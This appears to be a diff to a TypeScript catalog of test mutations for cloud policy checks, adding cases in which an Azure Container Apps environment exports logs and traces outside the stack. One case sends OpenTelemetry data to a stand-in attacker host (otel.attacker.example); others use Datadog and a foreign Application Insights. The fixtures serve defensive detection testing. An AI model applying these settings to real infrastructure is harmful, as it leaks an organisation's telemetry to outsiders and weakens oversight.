@@ -1,8 +1,9 @@
 /**
  * Bypass cases, round 2: where things point, not only that they exist. The key URI a data store
  * encrypts with names the stack's vault by name but another host; the subscription's Activity
- * log (a diagnostic setting at subscription scope) streams to someone else; an analytics rule
- * stays enabled but stops looking after each alert.
+ * log (a diagnostic setting at subscription scope) streams to someone else; the Container Apps
+ * environment's OpenTelemetry agent exports the apps' logs and traces; an analytics rule stays
+ * enabled but stops looking after each alert.
  */
 import type { Context, Mutation, Variation } from "../mutationCatalog";
 import { T } from "../mutationCatalog";
@@ -10,6 +11,7 @@ import { T } from "../mutationCatalog";
 const PROD: Mutation["stacks"] = ["prod"];
 const ACTIVITY = "azure-native:monitor:SubscriptionDiagnosticSetting";
 const RULE = "azure-native:securityinsights:ScheduledAlertRule";
+const ENV = "azure-native:app:ManagedEnvironment";
 /** A subscription the stacks never deploy into. */
 const FOREIGN_SUB = "5e0f0000-0000-4000-8000-00000000beef";
 const foreign = (path: string) =>
@@ -83,6 +85,47 @@ export const MUTATIONS: Mutation[] = [
     type: ACTIVITY,
     set: { marketplacePartnerId: () => foreign("Microsoft.Datadog/monitors/dd") },
     policy: "diagnostic-destinations-in-stack",
+    control: "LOG-1",
+  },
+
+  // The apps' telemetry exported by the environment's OpenTelemetry agent (LOG-1, RES-1)
+  {
+    id: "environment OpenTelemetry agent exporting logs and traces to an OTLP endpoint outside Azure",
+    type: ENV,
+    set: {
+      openTelemetryConfiguration: {
+        destinationsConfiguration: {
+          otlpConfigurations: [
+            { name: "collector", endpoint: "https://otel.attacker.example:4317", insecure: false },
+          ],
+        },
+        logsConfiguration: { destinations: ["collector"] },
+        tracesConfiguration: { destinations: ["collector"] },
+      },
+    },
+    policy: "managed-environment-no-telemetry-export",
+    control: "LOG-1",
+  },
+  {
+    id: "environment OpenTelemetry agent exporting to Datadog's US site",
+    type: ENV,
+    set: {
+      openTelemetryConfiguration: {
+        destinationsConfiguration: { dataDogConfiguration: { site: "datadoghq.com", key: "dd-api-key" } },
+        logsConfiguration: { destinations: ["dataDog"] },
+      },
+    },
+    policy: "managed-environment-no-telemetry-export",
+    control: "LOG-1",
+  },
+  {
+    id: "environment sending Dapr telemetry to a foreign Application Insights",
+    type: ENV,
+    set: {
+      daprAIConnectionString:
+        "InstrumentationKey=00000000-0000-4000-8000-00000000beef;IngestionEndpoint=https://eastus-8.in.applicationinsights.azure.com/",
+    },
+    policy: "managed-environment-no-telemetry-export",
     control: "LOG-1",
   },
 
